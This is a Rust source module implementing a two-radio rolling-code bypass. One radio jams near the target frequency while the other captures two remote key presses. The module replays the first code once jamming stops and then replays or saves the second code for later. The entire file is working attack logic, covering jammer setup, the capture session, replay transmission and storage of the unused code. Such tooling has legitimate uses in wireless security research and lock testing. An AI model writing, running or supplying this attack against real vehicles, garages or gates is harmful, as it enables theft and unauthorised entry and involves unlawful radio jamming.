//! Rolling-code bypass with two radios
//!
//! One radio jams slightly off the target frequency while the other sniffs.
//! The legitimate receiver never decodes the two key presses, so both
//! captured codes are still unused. The first is replayed as soon as the
//! jammer is down; the second is replayed on request or saved for later.
//!
//! ```text
//! Idle -> JammerArmed -> Capturing -> JammerDisarmed -> ReplayFirst
//!      -> AwaitOperatorChoice -> ReplaySecond | SaveSecond -> Done
//! ```
//!
//! Any state may end in `Failed`. The jammer is always idled before the
//! first replay and before an error is reported.

use std::path::PathBuf;
use std::time::Duration;

use tracing::{error, info, warn};

use super::{idle_with_retry, AttackError, Role};
use crate::capture::{
    CancelToken, Capture, CaptureError, CapturePolicy, CaptureSession, CaptureStore, RetryPolicy,
    SessionOutcome, DEFAULT_RECEIVE_TIMEOUT,
};
use crate::operator::Operator;
use crate::radio::{configure, Modulation, Radio, RadioSettings};

/// Number of key presses captured behind the jammer
const ROLLING_CAPTURES: usize = 2;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RollState {
    Idle,
    JammerArmed,
    Capturing,
    JammerDisarmed,
    ReplayFirst,
    AwaitOperatorChoice,
    ReplaySecond,
    SaveSecond,
    Done,
    Failed,
}

/// How a completed attack ended
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RollingOutcome {
    /// Both codes were replayed
    ReplayedBoth,
    /// First code replayed, second saved to this capture file
    SavedSecond(PathBuf),
    /// Cancelled before two codes were captured
    Cancelled,
}

pub struct RollingCodeAttack<J: Radio, S: Radio> {
    jammer: J,
    sniffer: S,
    settings: RadioSettings,
    jamming_variance: i64,
    retry: RetryPolicy,
    receive_timeout: Duration,
    store: CaptureStore,
    state: RollState,
    history: Vec<RollState>,
}

impl<J: Radio, S: Radio> RollingCodeAttack<J, S> {
    pub fn new(
        jammer: J,
        sniffer: S,
        settings: RadioSettings,
        jamming_variance: i64,
        store: CaptureStore,
    ) -> Self {
        Self {
            jammer,
            sniffer,
            settings,
            jamming_variance,
            retry: RetryPolicy::default(),
            receive_timeout: DEFAULT_RECEIVE_TIMEOUT,
            store,
            state: RollState::Idle,
            history: vec![RollState::Idle],
        }
    }

    pub fn with_retry(mut self, retry: RetryPolicy) -> Self {
        self.retry = retry;
        self
    }

    /// Bound each sniffer receive so cancellation is seen while jamming
    pub fn with_receive_timeout(mut self, timeout: Duration) -> Self {
        self.receive_timeout = timeout;
        self
    }

    pub fn state(&self) -> RollState {
        self.state
    }

    /// Every state visited, in order
    pub fn history(&self) -> &[RollState] {
        &self.history
    }

    fn transition(&mut self, next: RollState) {
        info!("Rolling code: {:?} -> {:?}", self.state, next);
        self.state = next;
        self.history.push(next);
    }

    fn fail(&mut self, err: AttackError) -> AttackError {
        error!("Rolling code attack failed: {}", err);
        self.transition(RollState::Failed);
        err
    }

    /// Run the attack to completion
    pub fn run(
        &mut self,
        operator: &mut dyn Operator,
        cancel: &CancelToken,
    ) -> Result<RollingOutcome, AttackError> {
        let window = match self.settings.rssi_window() {
            Ok(window) => window,
            Err(e) => return Err(self.fail(e.into())),
        };

        if let Err(e) = self.arm() {
            // A half-configured jammer may already be keyed
            if let Err(idle_err) = idle_with_retry(&mut self.jammer, Role::Jammer, &self.retry) {
                warn!("{}", idle_err);
            }
            return Err(self.fail(e));
        }

        self.transition(RollState::Capturing);
        info!("Waiting to capture your rolling code transmissions");
        let session = CaptureSession::new(
            ROLLING_CAPTURES,
            CapturePolicy::Windowed(window),
            self.settings.frequency,
        )
        .with_timeout(self.receive_timeout)
        .with_retry(self.retry);
        let captured = session.run(&mut self.sniffer, operator, cancel);

        // The jammer goes down whatever the session returned
        let disarmed = idle_with_retry(&mut self.jammer, Role::Jammer, &self.retry);
        if disarmed.is_ok() {
            info!("Jamming stopped");
        }

        let captures = match captured {
            Err(e) => {
                if let Err(idle_err) = disarmed {
                    warn!("{}", idle_err);
                }
                return Err(self.fail(e.into()));
            }
            Ok(SessionOutcome::Complete(captures)) => captures,
            Ok(SessionOutcome::Cancelled) | Ok(SessionOutcome::Quiet) => {
                if let Err(e) = disarmed {
                    return Err(self.fail(e));
                }
                info!("Rolling code attack cancelled before both codes were captured");
                self.transition(RollState::Done);
                return Ok(RollingOutcome::Cancelled);
            }
        };
        if let Err(e) = disarmed {
            return Err(self.fail(e));
        }
        self.transition(RollState::JammerDisarmed);

        match self.replay(captures, operator) {
            Ok(outcome) => {
                self.transition(RollState::Done);
                Ok(outcome)
            }
            Err(e) => {
                if let Err(idle_err) = self.sniffer.set_idle_mode() {
                    warn!("Failed to idle sniffer radio: {}", idle_err);
                }
                Err(self.fail(e))
            }
        }
    }

    /// Put the sniffer in receive mode and key the jammer
    fn arm(&mut self) -> Result<(), AttackError> {
        configure(&mut self.sniffer, &self.settings)
            .and_then(|_| self.sniffer.set_receive_mode())
            .map_err(|source| AttackError::RadioInit {
                role: Role::Sniffer,
                source,
            })?;

        let jam_settings = RadioSettings {
            modulation: Modulation::AskOok,
            ..self.settings.offset_by(self.jamming_variance)?
        };
        let jam_init = configure(&mut self.jammer, &jam_settings)
            .and_then(|_| self.jammer.set_transmit_mode());
        jam_init.map_err(|source| AttackError::RadioInit {
            role: Role::Jammer,
            source,
        })?;

        info!("Starting jamming on {} Hz", jam_settings.frequency);
        self.transition(RollState::JammerArmed);
        Ok(())
    }

    fn replay(
        &mut self,
        captures: Vec<Capture>,
        operator: &mut dyn Operator,
    ) -> Result<RollingOutcome, AttackError> {
        let got = captures.len();
        let [first, second]: [Capture; ROLLING_CAPTURES] =
            captures.try_into().map_err(|_| CaptureError::Incomplete {
                expected: ROLLING_CAPTURES,
                got,
            })?;
        let first_bytes = first.to_bytes()?;
        let second_bytes = second.to_bytes()?;

        self.transition(RollState::ReplayFirst);
        info!("Sending first payload: {}", first.payload());
        self.sniffer
            .transmit_frame(&first_bytes)
            .map_err(AttackError::Transmit)?;
        info!("Transmission complete");

        self.transition(RollState::AwaitOperatorChoice);
        if operator.confirm("Ready to send second payload?") {
            self.transition(RollState::ReplaySecond);
            info!("Sending second payload: {}", second.payload());
            self.sniffer
                .transmit_frame(&second_bytes)
                .map_err(AttackError::Transmit)?;
            info!("Transmission complete");
            idle_with_retry(&mut self.sniffer, Role::Sniffer, &self.retry)?;
            return Ok(RollingOutcome::ReplayedBoth);
        }

        self.transition(RollState::SaveSecond);
        idle_with_retry(&mut self.sniffer, Role::Sniffer, &self.retry)?;
        let path = match operator.ask("Choose a name to save your file as:") {
            Some(name) => self.store.save(&name, second.payload())?,
            None => self.store.save_timestamped(second.payload())?,
        };
        info!("Saved second code as {}, replay it later with send mode", path.display());
        Ok(RollingOutcome::SavedSecond(path))
    }
}
